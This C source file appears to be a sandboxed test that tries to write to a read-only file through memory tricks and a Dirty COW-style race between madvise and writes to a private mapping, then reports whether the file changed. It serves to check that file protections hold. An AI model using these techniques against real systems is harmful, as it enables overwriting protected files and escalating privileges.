/* Changes a file that it may only read by way of memory, as Dirty COW did; says what the file is then. */
#include "attack.h"
#include <fcntl.h>
#include <pthread.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/uio.h>

enum { ROUNDS = 20000 };
static char *page;
static volatile int racing = 1;

static void *discard(void *unused) {
  while (racing) madvise(page, 4096, MADV_DONTNEED);
  return unused;
}

int main(int argc, char **argv) {
  only_in_a_sandbox();
  if (argc < 2) return 2;
  char byte = 'X', seen = 0;
  int file = open(argv[1], O_RDONLY);
  report("map for writing", mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0) == MAP_FAILED ? -1 : 0);
  page = mmap(NULL, 4096, PROT_READ, MAP_SHARED, file, 0);
  if (page == MAP_FAILED) return 3;
  report("unprotect", mprotect(page, 4096, PROT_READ | PROT_WRITE));
  report("fault in for writing", madvise(page, 4096, MADV_POPULATE_WRITE));
  report("punch a hole", madvise(page, 4096, MADV_REMOVE));
  report("read into it", read(open("/dev/zero", O_RDONLY), page, 1));
  report("write into itself", process_vm_writev(getpid(), &(struct iovec){&byte, 1}, 1, &(struct iovec){page, 1}, 1, 0));
  report("past protection", open("/proc/self/mem", O_RDWR));
  report("remap", syscall(SYS_remap_file_pages, page, 4096, 0, 0, 0));
  munmap(page, 4096);
  page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE, file, 0);
  if (page == MAP_FAILED) return 4;
  pthread_t other;
  if (pthread_create(&other, NULL, discard, NULL)) return 5;
  for (int i = 0; i < ROUNDS; i++) *(volatile char *)page = 'X';
  racing = 0;
  pthread_join(other, NULL);
  puts(pread(file, &seen, 1, 0) == 1 && seen == argv[2][0] ? "as it was" : "CHANGED");
  return 0;
}
